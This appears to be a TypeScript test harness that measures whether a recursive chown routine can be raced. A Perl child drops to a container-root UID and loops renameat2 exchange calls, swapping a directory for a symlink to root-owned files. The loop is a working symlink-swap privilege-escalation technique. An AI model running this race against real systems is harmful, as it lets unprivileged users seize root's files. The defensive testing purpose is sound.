import {spawn} from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

/** What is tried: gives all that is below a folder to a user. */
export type Owning = (folder: string, id: number) => void;

/** How often files outside of the folder changed hands, how often all went well in a directory beside the swapped one, and how much was swapped. */
export type Races = {readonly rounds: number; readonly lost: number; readonly owned: number; readonly swaps: number};

/** The root of a container, as the host sees it. */
const attacker = 100_000;

/**
Lets somebody who may write to a folder swap a directory in it for a link to root's files, as fast as the kernel can, while all
that is in it is given to them.
*/
export function raceSwaps(rounds: number, own: Owning): Races {
	const base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'runner-swaps-')));
	try {
		// The attacker has to get there
		fs.chmodSync(base, 0o755);
		const results = Array.from({length: rounds}, (_, round) => race(path.join(base, String(round)), own));
		return {
			rounds,
			lost: results.filter(({isLost}) => isLost).length,
			owned: results.filter(({isOwned}) => isOwned).length,
			swaps: results.reduce((sum, {swaps}) => sum + swaps, 0),
		};
	} finally {
		fs.rmSync(base, {recursive: true, force: true});
	}
}

function race(base: string, own: Owning) {
	const [volume, victim] = [`${base}/volume`, `${base}/victim`];
	const names = Array.from({length: 40}, (_, index) => `f${index}`);
	fs.mkdirSync(victim, {recursive: true});
	for (const name of names) {
		fs.writeFileSync(`${victim}/${name}`, 'secret', {mode: 0o600});
	}

	for (const name of ['d1', 'd2', 'd3']) {
		fs.mkdirSync(`${volume}/a/${name}`, {recursive: true});
		for (const file of names) {
			fs.writeFileSync(`${volume}/a/${name}/${file}`, '');
		}
	}

	fs.symlinkSync(victim, `${volume}/a/link`);
	for (const name of ['', '/a', '/a/d1', '/a/d2', '/a/d3', '/a/link']) {
		fs.lchownSync(`${volume}${name}`, attacker, attacker);
	}

	const count = `${base}/count`;
	fs.writeFileSync(count, '');
	const swapping = spawn('perl', ['-e', swapProgram, `${volume}/a`, count, String(attacker)], {
		stdio: ['ignore', 'ignore', 'inherit'],
	});
	const swaps = () => fs.statSync(count).size;
	while (swaps() === 0) {
		wait();
	}

	own(volume, attacker);
	const during = swaps();
	swapping.kill('SIGKILL');
	const uidsIn = (folder: string) => names.map(name => fs.lstatSync(`${folder}/${name}`).uid);
	return {
		isLost: [fs.lstatSync(victim).uid, ...uidsIn(victim)].some(uid => uid !== 0),
		isOwned: uidsIn(`${volume}/a/d1`).every(uid => uid === attacker),
		swaps: during * 100,
	};
}

const wait = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1);

/** Notes each hundredth swap by a byte. 316 is renameat2, with the flag that exchanges; on arm64 it is 276. */
const swapProgram = `
	use POSIX;
	my ($folder, $count, $id) = @ARGV;
	open(my $notes, ">>", $count) or die $!;
	chdir($folder) or die $!;
	$) = "$id $id"; POSIX::setgid($id) and POSIX::setuid($id) or die $!;
	my $call = (POSIX::uname())[4] eq "aarch64" ? 276 : 316;
	my ($one, $other) = ("d2", "link");
	for (my $turn = 0; ; $turn++) {
		syscall($call, -100, $one, -100, $other, 2) == 0 or die $!;
		syswrite($notes, ".") if $turn % 100 == 0;
	}
`;
